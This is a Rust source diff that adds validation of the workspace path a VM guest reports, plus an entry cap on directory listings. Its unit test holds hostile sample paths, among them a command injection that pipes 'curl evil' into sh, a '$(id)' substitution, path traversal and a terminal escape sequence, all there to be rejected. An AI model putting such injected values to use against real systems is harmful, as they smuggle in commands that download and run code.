@@ -8,23 +8,25 @@ use std::os::fd::AsFd;
 use std::path::Path;
 
 use banger_failpoint::{passed, point};
-use banger_tree::{Listed, Piece};
+use banger_tree::{Listed, Piece, TreeError};
 use lib_guest::{Directory, Guest};
 use lib_model::{Progress, WorkspaceRecord};
 use lib_store::{Store, VmRow, WorkspaceGuard, WorkspaceRow, WorkspaceSpec, private_dir};
 use lib_vm::{Life, VmError};
 use plan::Plan;
 
-use crate::collect::{self, Collected, Collector, Commits};
+use crate::collect::{Collected, Collector};
+use crate::commits::{self, Commits};
 use crate::error::{Result, WsError};
 use crate::filtered;
 use crate::git::{Git, Scratch};
 use crate::guest_git::GuestGit;
 use crate::manifest::Manifest;
 use crate::place;
-use crate::repository::{Content, Repository, Scan, scan};
+use crate::repository::Repository;
 use crate::request::{Env, Limits, Mode, Prepare, settled};
-use crate::walk::parent;
+use crate::scan::{Content, Scan, scan};
+use crate::walk::{parent, shown};
 
 /// The bare repository in the workspace's directory.
 pub(crate) const SCRATCH: &str = "scratch.git";
@@ -78,9 +80,7 @@ fn copy(env: &mut Env<'_>, vm: &VmRow, request: &Prepare) -> Result<WorkspaceRec
     };
     let user = request.user.as_deref();
     let mut directory = guest.open_directory(wanted.as_bytes(), user, true, interrupt)?;
-    let path = String::from_utf8(directory.path().to_vec())
-        .map_err(|_| WsError::Refused("the path in the VM is no UTF-8".into()))?;
-    let path = path.trim_end_matches('/').to_owned();
+    let path = agreed(&wanted, directory.path())?;
     if path.is_empty() {
         return Err(WsError::Usage {
             what: "a workspace cannot be at / in the VM".into(),
@@ -164,6 +164,39 @@ pub(crate) fn running(env: &mut Env<'_>, vm: &VmRow) -> Result<VmRow> {
         return Err(VmError::NotRunning { vm }.into());
     }
     Ok(vm)
+}
+
+/// Why a listing is left that has more than any directory.
+fn endless() -> TreeError {
+    TreeError::Refused("a directory in the VM does not end".to_owned())
+}
+
+/// Where the guest put what was wanted there. It may say where its user's home is, and no more: people copy commands
+/// with this path in them.
+fn agreed(wanted: &str, said: &[u8]) -> Result<String> {
+    let refused = || {
+        WsError::Refused(format!(
+            "the VM puts {wanted} at {}; say where it belongs: --path /DIRECTORY",
+            shown(said)
+        ))
+    };
+    let said = str::from_utf8(said).map_err(|_| refused())?;
+    let path = said.trim_end_matches('/');
+    let wanted = wanted.trim_end_matches('/');
+    let plain = |home: &str| {
+        let lawful = |c: char| c.is_alphanumeric() || "/._-@+".contains(c);
+        home.starts_with('/') && home.chars().all(lawful) && !home.contains("/../")
+    };
+    let lawful = match path.strip_suffix(wanted) {
+        _ if wanted.is_empty() => plain(said),
+        Some("") => path.starts_with('/'),
+        Some(home) => !wanted.starts_with('/') && home.ends_with('/') && plain(home),
+        None => false,
+    };
+    match lawful {
+        true => Ok(path.to_owned()),
+        false => Err(refused()),
+    }
 }
 
 /// The repository's name, below the user's home.
@@ -275,7 +308,15 @@ impl Preparation<'_, '_> {
         let scratch = self.scratch(&scan, old.as_ref());
         let cut_off = Manifest::cut_off(self.workspace);
         let collected = match &old {
-            Some(old) => self.collect(&scratch, old, &cut_off)?,
+            Some(old) => self
+                .collect(&scratch, old, &cut_off)
+                .map_err(|error| match error {
+                    WsError::Limit { what, .. } => WsError::Limit {
+                        what,
+                        hint: "remove what is generated in the VM, or add it to .gitignore there",
+                    },
+                    error => error,
+                })?,
             None => Collected::default(),
         };
         let plan = plan::plan(&mut scan, old.as_ref(), &cut_off, &collected);
@@ -351,7 +392,7 @@ impl Preparation<'_, '_> {
         let limits = Limits::default();
         let base = old.roots[0].base.as_deref();
         let mut commits = match self.row.spec.git && self.was_git {
-            true => collect::commits(scratch, self.guest_git, base, &old.format, limits)?,
+            true => commits::collect(scratch, self.guest_git, base, &old.format, limits)?,
             false => Commits::default(),
         };
         // The guest is at a commit that a copy that was cut off had brought.
@@ -389,12 +430,13 @@ impl Preparation<'_, '_> {
         let directories: BTreeSet<Vec<u8>> = sent.keys().map(|path| parent(path)).collect();
         let directories: Vec<Vec<u8>> = directories.into_iter().collect();
         let mut found: BTreeMap<Vec<u8>, Listed> = BTreeMap::new();
-        let mut at = 0;
+        let (mut at, mut left) = (0, Limits::default().entries);
         self.directory.list(&directories, |piece| {
             match piece {
                 Piece::Directory => at += 1,
                 Piece::Missing => {}
                 Piece::Entry(name, listed) => {
+                    left = left.checked_sub(1).ok_or_else(endless)?;
                     let directory = directories.get(at - 1).map(Vec::as_slice);
                     let path = crate::walk::join(directory.unwrap_or_default(), name.as_bytes());
                     // A listing that is longer than what was sent has nothing to do with it.
@@ -417,5 +459,40 @@ impl Preparation<'_, '_> {
                 .copied();
         }
         Ok(())
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_guest_says_where_homes_are_and_no_more() {
+        for (wanted, said, path) in [
+            ("/ws", "/ws", Some("/ws")),
+            ("/ws/", "/ws/", Some("/ws")),
+            ("app", "/root/app", Some("/root/app")),
+            ("app", "/app", Some("/app")),
+            ("a/b", "/home/jürgen.x/a/b", Some("/home/jürgen.x/a/b")),
+            ("my app (1)", "/root/my app (1)", Some("/root/my app (1)")),
+            ("app", "/root; curl evil | sh #/app", None),
+            ("app", "/$(id)/app", None),
+            ("app", "/root\n/app", None),
+            ("app", "/root/../etc/app", None),
+            ("app", "/root/other", None),
+            ("app", "/rootapp", None),
+            ("app", "root/app", None),
+            ("app", "app", None),
+            ("/ws", "/elsewhere", None),
+            ("/ws", "/root/ws", None),
+        ] {
+            let found = agreed(wanted, said.as_bytes());
+            assert_eq!(found.ok().as_deref(), path, "{wanted} at {said}");
+        }
+        let error = agreed("app", b"/\x1b[2J/app").unwrap_err().to_string();
+        assert!(
+            error.contains("--path /") && !error.contains('\x1b'),
+            "{error}"
+        );
     }
 }
